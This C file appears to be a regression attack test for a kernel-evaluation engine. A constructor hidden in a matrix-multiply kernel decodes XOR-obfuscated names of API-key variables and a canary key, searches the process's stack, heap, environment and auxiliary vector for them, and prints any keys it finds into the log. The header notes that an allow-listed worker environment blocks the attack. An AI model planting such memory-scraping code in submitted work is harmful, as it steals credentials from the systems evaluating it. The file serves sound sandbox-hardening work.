/*
 * ATTACK secret_memory — find the engine's keys in its own memory. The
 * candidate is a fork of its judge, a fork of its worker, which the engine
 * exec'd: whatever the worker's environment held at exec (the engine's
 * whole environment, before issue 18) lies at the top of the candidate's
 * stack even after the worker scrubbed `environ`, and whatever the worker
 * or judge computed lies in dead stack frames and in the heap. The kernel
 * scans, from its constructor, its whole stack (from below its stack
 * pointer to the top: dead frames, environment strings, the auxiliary
 * vector), its brk heap, its environ and the auxv entries, for the names
 * of the key variables the test exports (OpenAI's and Anthropic's API
 * keys, avo's LLM key and its worker secret), the prefix of the fake
 * key's value and the word its tail repeats (run.sh: any fragment of 18
 * characters or more holds it), and prints what follows each hit, then fails on
 * purpose: a key found shows in the log (run.sh checks every output for
 * the test's secret and for the marker line).  The needles appear nowhere
 * in this file as plain text: its source is in the heap (the job).
 * Stopped by: workers exec'd with an allow-listed environment (and a
 * remote worker's serving process exec'd afresh), so no key is ever in the
 * memory a candidate descends from (issue 18, item 4).
 * integrity: expect=any
 */
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <unistd.h>

extern char **environ;

/* The needles, XORed with 0x5a: plain text of them would sit in the
 * object's bytes, which the loader read through the heap. */
#define X 0x5a
static const unsigned char coded[][24] = {
    {'s' ^ X, 'k' ^ X, '-' ^ X, 'c' ^ X, 'a' ^ X, 'n' ^ X, 'a' ^ X, 'r' ^ X, 'y' ^ X, '-' ^ X},
    {'O' ^ X, 'P' ^ X, 'E' ^ X, 'N' ^ X, 'A' ^ X, 'I' ^ X, '_' ^ X, 'A' ^ X, 'P' ^ X, 'I' ^ X,
     '_' ^ X, 'K' ^ X, 'E' ^ X, 'Y' ^ X},
    {'L' ^ X, 'L' ^ X, 'M' ^ X, '_' ^ X, 'A' ^ X, 'P' ^ X, 'I' ^ X, '_' ^ X, 'K' ^ X, 'E' ^ X,
     'Y' ^ X},
    {'W' ^ X, 'O' ^ X, 'R' ^ X, 'K' ^ X, 'E' ^ X, 'R' ^ X, '_' ^ X, 'S' ^ X, 'E' ^ X, 'C' ^ X,
     'R' ^ X, 'E' ^ X, 'T' ^ X},
    {'A' ^ X, 'N' ^ X, 'T' ^ X, 'H' ^ X, 'R' ^ X, 'O' ^ X, 'P' ^ X, 'I' ^ X, 'C' ^ X, '_' ^ X},
    {'K' ^ X, 'E' ^ X, 'Y' ^ X, 'M' ^ X, 'A' ^ X, 'T' ^ X, 'E' ^ X, 'R' ^ X, 'I' ^ X, 'A' ^ X,
     'L' ^ X},
};
#define NNEEDLES (sizeof coded / sizeof coded[0])
static char needles[NNEEDLES][24]; /* decoded into .bss, outside what is scanned */
static size_t lens[NNEEDLES];

static int escapes;
static void escaped(const char *fmt, ...)
{
    char line[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
    escapes++;
}

static sigjmp_buf fault;
static void on_fault(int sig)
{
    (void)sig;
    siglongjmp(fault, 1);
}

/* Search one readable page-aligned range [lo, hi) for every needle. */
static void search(const char *where, const unsigned char *lo, const unsigned char *hi)
{
    for (size_t n = 0; n < NNEEDLES && escapes < 8; n++) {
        const unsigned char *at = lo;
        while (at < hi && escapes < 8) {
            const unsigned char *hit = memmem(at, (size_t)(hi - at), needles[n], lens[n]);
            if (!hit)
                break;
            char text[64] = "";
            size_t k = 0;
            for (const unsigned char *c = hit; c < hi && k < sizeof text - 1 && *c >= 32 && *c < 127;
                 c++)
                text[k++] = (char)*c;
            escaped("found '%s' in the %s", text, where);
            at = hit + lens[n];
        }
    }
}

/* Readable pages from `start` in direction `step` (+page or -page), until
 * a fault or `max` pages; returns the far end reached. */
static const unsigned char *extent(const unsigned char *start, long step, long max)
{
    static const unsigned char *volatile last;
    last = start;
    if (sigsetjmp(fault, 1) == 0) {
        for (long i = 0; i < max; i++) {
            const volatile unsigned char *p = last + step;
            (void)*p;
            last = (const unsigned char *)p;
        }
    }
    return last;
}

__attribute__((constructor)) static void scan(void)
{
    for (size_t n = 0; n < NNEEDLES; n++) {
        for (lens[n] = 0; lens[n] < sizeof coded[n] && coded[n][lens[n]]; lens[n]++)
            needles[n][lens[n]] = (char)(coded[n][lens[n]] ^ X);
    }
    long page = sysconf(_SC_PAGESIZE);
    static char alt[65536];
    stack_t ss = {.ss_sp = alt, .ss_size = sizeof alt};
    sigaltstack(&ss, NULL);
    struct sigaction sa = {.sa_handler = on_fault, .sa_flags = SA_ONSTACK};
    sigaction(SIGSEGV, &sa, NULL);
    sigaction(SIGBUS, &sa, NULL);

    volatile unsigned char here = 0;
    const unsigned char *sp =
        (const unsigned char *)((uintptr_t)&here & ~(uintptr_t)(page - 1));
    const unsigned char *top = extent(sp, page, 1L << 16) + page;
    const unsigned char *bottom = extent(sp, -page, 2048); /* dead frames below */
    search("stack", bottom, top);

    const unsigned char *brk_end =
        (const unsigned char *)((uintptr_t)sbrk(0) & ~(uintptr_t)(page - 1));
    const unsigned char *heap = extent(brk_end, -page, 1L << 18);
    search("heap", heap, brk_end);

    for (char **e = environ; e && *e; e++)
        search("environment", (const unsigned char *)*e,
               (const unsigned char *)*e + strlen(*e));
    static const unsigned long types[] = {AT_RANDOM, AT_EXECFN, AT_PLATFORM};
    for (size_t i = 0; i < 3; i++) {
        const unsigned char *v = (const unsigned char *)getauxval(types[i]);
        if (v)
            search("auxiliary vector", v, v + (i == 0 ? 16 : strlen((const char *)v)));
    }
    signal(SIGSEGV, SIG_DFL);
    signal(SIGBUS, SIG_DFL);
}

/* After an escape: fail on purpose, so the log with the keys is kept. */
void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    if (escapes)
        return;
    memset(C, 0, sizeof(float) * (size_t)M * (size_t)N);
    for (int32_t i = 0; i < M; i++)
        for (int32_t k = 0; k < K; k++) {
            float a = A[(int64_t)i * K + k];
            for (int32_t j = 0; j < N; j++)
                C[(int64_t)i * N + j] += a * B[(int64_t)k * N + j];
        }
}
